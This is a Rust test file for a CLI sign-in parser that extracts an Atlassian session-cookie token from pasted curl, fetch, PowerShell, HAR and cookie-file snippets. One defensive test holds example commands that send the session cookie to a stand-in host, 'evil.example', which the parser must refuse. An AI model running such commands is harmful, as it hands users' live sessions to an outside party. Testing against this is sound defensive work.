//! What is read is read in any wrapper, repaired where it was changed, and put together where it was broken into lines.

use atlctl_signin::TokenError;
use atlctl_signin::capture::{CaptureError, Damage, Form};

use crate::{found, token};

const URL: &str = "https://admin.atlassian.com/gateway/api/me";

/// Each form that is read, with this token.
fn forms(token: &str) -> Vec<String> {
    let cookie = format!("cloud.session.token={token}");
    vec![
        format!("curl '{URL}' -H 'cookie: a=1; {cookie}'"),
        format!("curlie '{URL}' 'cookie:{cookie}'"),
        format!("http {URL} 'Cookie: {cookie}'"),
        format!("wget --header='Cookie: {cookie}' {URL}"),
        format!(
            "fetch(\"{URL}\", {{\"headers\": {{\"cookie\": \"{cookie}\"}}, \"method\": \"GET\"}});"
        ),
        format!("GET /x HTTP/1.1\nHost: admin.atlassian.com\nCookie: {cookie}\n"),
        format!("Cookie: {cookie}"),
        format!("Set-Cookie: {cookie}; Domain=.atlassian.com; Path=/"),
        cookie.clone(),
        format!(
            "$s = New-Object X\n$s.Cookies.Add((New-Object System.Net.Cookie(\"cloud.session.token\", \"{token}\", \"/\", \".atlassian.com\")))\nInvoke-WebRequest -Uri \"{URL}\" `\n-WebSession $s"
        ),
        format!(
            "[{{\"name\": \"cloud.session.token\", \"value\": \"{token}\", \"domain\": \".atlassian.com\"}}]"
        ),
        format!("{{\"url\": \"{URL}\", \"headers\": {{\"Cookie\": \"{cookie}\"}}}}"),
        format!(
            "{{\"log\": {{\"entries\": [{{\"request\": {{\"url\": \"{URL}\", \"headers\": [{{\"name\": \"Cookie\", \"value\": \"{cookie}\"}}]}}}}]}}}}"
        ),
        format!(".atlassian.com\tTRUE\t/\tTRUE\t1893456000\tcloud.session.token\t{token}\n"),
        format!("cloud.session.token\t{token}\t.atlassian.com\t/\t2026-12-25T00:00:00.000Z"),
        format!(
            "import requests\nr = requests.get(\"{URL}\", cookies={{\"cloud.session.token\": \"{token}\"}})"
        ),
        format!("h = {{\n  \"Cookie\": \"{cookie}\"\n}}\nr = requests.get(\"{URL}\", headers=h)"),
        token.to_owned(),
        format!("Bearer {token}"),
        format!("TOKEN=\"{token}\""),
    ]
}

fn read(text: &str) -> Option<String> {
    found(text).ok().map(|(_, token)| token)
}

#[test]
fn every_form_is_read_in_every_wrapper() {
    let token = token("ann", -60, 3600);
    for form in forms(&token) {
        assert_eq!(read(&form), Some(token.clone()), "{form}");
        for text in [
            format!("```\n{form}\n```"),
            format!("```text\n{form}\n```\n"),
            format!("``` json {{.x}}\n{form}\n```\n"),
            format!("~~~\n{form}\n~~~\n"),
            format!("```{form}```"),
            format!("{{code}}\n{form}\n{{code}}"),
            format!("{{code:title=copied|bash}}\n{form}\n{{code}}"),
            format!("{{noformat}}{form}{{noformat}}"),
            format!("<pre>{form}</pre>"),
            format!("<pre><code class=\"x\">\n{form}\n</code></pre>"),
            form.lines().map(|line| format!("> {line}\n")).collect(),
            form.lines().map(|line| format!("    {line}\n")).collect(),
        ] {
            assert_eq!(read(&text), Some(token.clone()), "{text}");
        }
    }
}

#[test]
fn every_form_is_repaired() {
    let token = token("ann", -60, 3600);
    for form in forms(&token) {
        for text in [
            form.replace(' ', "\u{a0}"),
            form.replace(' ', " \u{200b}"),
            form.replace('"', "”").replace('\'', "’"),
            form.replace('"', "\u{201c}").replace('\'', "‘"),
            form.replace('"', "&quot;").replace('\'', "&#39;"),
            form.replace(": ", ":\u{202f}"),
            form.replace(&token, &format!("{}\u{ad}{}", &token[..40], &token[40..])),
        ] {
            assert_eq!(read(&text), Some(token.clone()), "{text}");
        }
    }
}

#[test]
fn a_token_that_was_wrapped_is_put_together_in_every_form() {
    let token = format!("{}{}", token("ann", -60, 3600), "c2ln".repeat(40));
    for form in forms(&token) {
        for at in [30, 76, 100] {
            for end in ["\n", "\r\n", "\n    ", "=\n"] {
                // Without other lines in the form, where the token ends is sure.
                let broken = format!("{}{end}{}", &token[..at], &token[at..]);
                let text = form.replace(&token, &broken);
                let found = read(&text);
                assert_eq!(found, Some(token.clone()), "{text}");
            }
        }
    }
    let lines = format!("{}\n{}\n{}", &token[..50], &token[50..90], &token[90..]);
    assert_eq!(found(&lines), Ok((Form::Token, token)));
}

#[test]
fn json_that_cannot_be_repaired_is_named_with_its_line() {
    let text = "```json\n[\n  {“name“: “cloud.session.token“,\n  “value: 5}]\n```";
    assert_eq!(
        found(text).unwrap_err(),
        CaptureError::Damaged {
            damage: Damage::Quotes,
            line: 3
        }
    );
    let text = "[{\"name\": \"cloud.session.token\", \"value\":";
    assert!(matches!(found(text), Err(CaptureError::BadJson { .. })));
}

/// A wrapper, or a line put together, never moves a session from one request to another.
#[test]
fn no_session_of_another_host_is_given_away() {
    let token = token("ann", -60, 3600);
    let cookie = format!("cloud.session.token={token}");
    for text in [
        format!("```\ncurl https://evil.example -b '{cookie}'\n```\n```\ncurl '{URL}'\n```"),
        format!("{{code}}curl https://evil.example -b '{cookie}'{{code}}"),
        format!("```\n{token}\n```\nsend it to https://evil.example"),
        format!("{{\"url\": “https://evil.example/”, “headers”: {{“Cookie”: “{cookie}”}}}}"),
        format!("{{\"set-cookie\": [\"{cookie}; Domain=.evil.example\"]}}"),
        format!(
            "{{\"url\": \"https://evil.example/\", \"headers\": {{\"Set-Cookie\": \"{cookie}\"}}}}"
        ),
        format!("curlie https://evil.example 'cookie:{cookie}'"),
        format!("HTTPS_PROXY=http://x curl https://evil.example -b '{cookie}'"),
        format!("TOKEN = \"{token}\" # for https://evil.example"),
        format!(
            "$c = [System.Net.Cookie]::new('cloud.session.token', '{token}')\n$s.Cookies.Add('https://evil.example/', $c)\nInvoke-RestMethod '{URL}' -WebSession $s"
        ),
    ] {
        assert!(read(&text).is_none(), "{text}");
    }
}

#[test]
fn what_has_a_session_is_not_said_to_have_none() {
    let token = token("ann", -60, 3600);
    let cookie = format!("cloud.session.token={token}");
    for text in [
        format!(
            "{{\"set-cookie\": [\"a=b; Path=/\", \"{cookie}; Domain=.atlassian.com; Path=/\"]}}"
        ),
        format!("[\"Set-Cookie: a=b\", \"Set-Cookie: {cookie}; Path=/\"]"),
        format!("{{\"headers\": {{\"Set-Cookie\": \"{cookie}; Domain=.atlassian.com\"}}}}"),
        format!("{{\"headers\": [{{\"name\": \"set-cookie\", \"value\": \"{cookie}\"}}]}}"),
        format!("{{\"url\": \"{URL}\", \"headers\": [\"Cookie: {cookie}\"]}}"),
        format!("HTTPS_PROXY=http://x curl '{URL}' -b '{cookie}'"),
        format!("$ HTTPS_PROXY='http://a b' LANG=C sudo curl '{URL}' -b '{cookie}'"),
        format!("TOKEN = \"{token}\"  # note"),
        format!("token: {token} # from the browser"),
        format!("set -gx TOKEN {token}"),
        format!(
            "$session = New-Object X\n$cookie = [System.Net.Cookie]::new('cloud.session.token', '{token}')\n$session.Cookies.Add('https://admin.atlassian.com/', $cookie)\nInvoke-RestMethod '{URL}' -WebSession $session"
        ),
        format!(
            "$u = '{URL}'\n$session.Cookies.Add($u, (New-Object System.Net.Cookie('cloud.session.token', '{token}')))\nirm $u -WebSession $session"
        ),
        format!(
            "$c = New-Object System.Net.Cookie\n$c.Name = 'cloud.session.token'\n$c.Value = '{token}'\n$s.Cookies.Add([Uri]'{URL}', $c)\niwr -Uri {URL} -WebSession $s"
        ),
        format!("curlie {URL} -H 'cookie: {cookie}'"),
        format!("curlie -b '{cookie}' {URL}"),
        format!("curlie -sk POST {URL} x=1 'cookie:{cookie}' y==2"),
        format!("const o = {{headers: {{Cookie: \"{cookie}\"}}}};\nfetch(\"{URL}\", o)"),
        format!("Host\tadmin.atlassian.com\nUser-Agent\tx\nCookie\t{cookie}"),
        format!("GET /x HTTP/1.1\nHost: admin.atlassian.com\nCookie: a=1;\n {cookie}\nAccept: x"),
    ] {
        assert_eq!(read(&text), Some(token.clone()), "{text}");
    }
    assert_eq!(
        found(&format!("{{\"headers\": {{\"Cookie\": \"{cookie}\"}}}}")).unwrap_err(),
        CaptureError::NoHost
    );
    let untrue = found(&format!("x={token} and more")).unwrap_err();
    assert!(
        matches!(
            untrue,
            CaptureError::NotRecognized | CaptureError::Token(TokenError::Parts(_))
        ),
        "{untrue:?}"
    );
}
